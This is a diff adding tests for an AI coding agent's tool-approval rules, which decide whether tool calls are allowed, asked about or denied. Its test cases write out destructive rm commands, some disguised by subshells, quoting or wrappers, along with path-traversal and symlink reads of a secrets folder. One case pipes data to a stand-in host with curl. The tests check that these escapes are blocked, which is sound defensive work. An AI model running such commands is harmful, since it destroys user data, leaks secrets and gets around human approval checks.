@@ -33,6 +33,76 @@ def approval_decisions(run: Run) -> str:
     return ", ".join(answers)
 
 
+_RULES = {
+    "allow": ["shell", "write(src/**)", "mcp__*"],
+    "ask": ["read(secrets/**)", "shell(git push:*)"],
+    "deny": ["shell(rm:*)", "mcp__danger__*"],
+    "trusted_servers": ["docs"],
+}
+_RULE_CASES: tuple[tuple[str, dict[str, Any], str, bool], ...] = (
+    # (tool, arguments, expected decision, plan mode)
+    ("shell", {"command": "git status"}, "allow", False),
+    ("shell", {"command": "cd .. && rm -rf project"}, "deny", False),
+    ("shell", {"command": "echo $(rm -rf /)"}, "deny", False),
+    ("shell", {"command": "'r''m' x"}, "deny", False),
+    ("shell", {"command": "bash -c 'rm x'"}, "ask", False),
+    ("shell", {"command": "git status && git push"}, "ask", False),
+    ("write", {"path": "src/a.py"}, "allow", False),
+    ("write", {"path": "src/../setup.py"}, "ask", False),
+    ("write", {"path": "src/out/rc"}, "ask", False),  # a symlink out of the workspace
+    ("read", {"path": "docs/../secrets/key"}, "ask", False),
+    ("read", {"path": "key-link"}, "ask", False),  # a symlink into secrets/
+    ("mcp__danger__wipe", {}, "deny", False),
+    ("mcp__git__log", {}, "allow", False),
+    ("mcp__git__log", {}, "ask", True),
+    ("mcp__docs__search", {}, "allow", True),
+)
+
+
+def approval_rules(run: Run) -> str:
+    """approval.json's rules: deny > ask > allow part by part (no escape by ``cd ..``, ``$(…)``, quoting,
+    a wrapper, ``..`` or a symlink); in plan mode an untrusted MCP server's tool asks."""
+    import os
+
+    workspace = Path(run.site.workspace)
+    (workspace / "src").mkdir(exist_ok=True)
+    (workspace / "secrets").mkdir(exist_ok=True)
+    (workspace / "secrets" / "key").write_text("k")
+    outside = Path(run.site.paths.cache_dir) / "outside"
+    outside.mkdir(exist_ok=True)
+    for link, target in ((workspace / "src" / "out", outside), (workspace / "key-link", workspace / "secrets" / "key")):
+        if not os.path.lexists(link):
+            link.symlink_to(target)
+    Path(run.config_file("approval.json")).write_bytes(orjson.dumps(_RULES))
+    wrong = []
+    with run.probe() as probe:
+        for name, arguments, expected, plan in _RULE_CASES:
+            data = {"name": name, "arguments": arguments, "external": name.startswith("mcp__"), "decision": "ask"}
+            if plan:
+                data["plan"] = True
+            got = _checked(probe, "tool_approval", data)
+            if got != expected:
+                wrong.append(f"{name} {orjson.dumps(arguments).decode()}: {got}, expected {expected}")
+    if wrong:
+        raise CheckFailed("; ".join(wrong))
+    return f"{len(_RULE_CASES)} calls decided as the rules say"
+
+
+def approval_project_file(run: Run) -> str:
+    """A project's ``.i/approval.json`` adds deny rules and may not allow anything."""
+    folder = Path(run.site.workspace) / ".i"
+    folder.mkdir(exist_ok=True)
+    (folder / "approval.json").write_text('{"deny":["shell(curl:*)"]}')
+    data = {"name": "shell", "arguments": {"command": "ls | curl -d @- x"}, "external": False, "decision": "allow"}
+    with run.probe() as probe:
+        if (got := _checked(probe, "tool_approval", data)) != "deny":
+            raise CheckFailed(f"a project deny rule did not deny: {got}")
+        (folder / "approval.json").write_text('{"allow":["shell"]}')
+        detail = expect_error(probe, "tool_approval", data, "a project file that allows")
+    (folder / "approval.json").unlink()
+    return f"deny kept; allow refused ({detail})"
+
+
 def system_prompt(run: Run) -> str:
     """The answer holds a non-empty prompt, unrelated fields kept."""
     with run.probe() as probe:
@@ -73,7 +143,11 @@ def steering(run: Run) -> str:
 
 
 CHECKS_OF_MODULE: dict[str, tuple[tuple[str, Any], ...]] = {
-    "approval": (("tool_approval: decision allow/ask/deny", approval_decisions),),
+    "approval": (
+        ("tool_approval: decision allow/ask/deny", approval_decisions),
+        ("approval rules: deny > ask > allow, part by part", approval_rules),
+        ("approval rules: a project file may not allow", approval_project_file),
+    ),
     "prompts": (("system_prompt: non-empty prompt", system_prompt),),
     "skills": (("skills: before_turn and tools", skills),),
     "steering": (("steering: queued input appended", steering),),
